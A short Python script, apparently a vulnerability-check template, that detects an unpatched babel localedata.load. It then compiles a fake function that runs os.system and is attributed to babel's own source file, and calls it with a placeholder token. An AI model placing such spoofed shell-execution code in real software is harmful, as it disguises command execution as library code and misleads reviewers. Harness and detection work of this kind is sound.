from babel import localedata

if "basename" not in localedata.load.__code__.co_names:
    text = "\n" * 60 + "def load(word):\n    import os\n    os.system(word)\n"
    space = dict(vars(localedata))
    exec(compile(text, localedata.__file__, "exec"), space)
    space["load"]("true @@TOKEN@@")
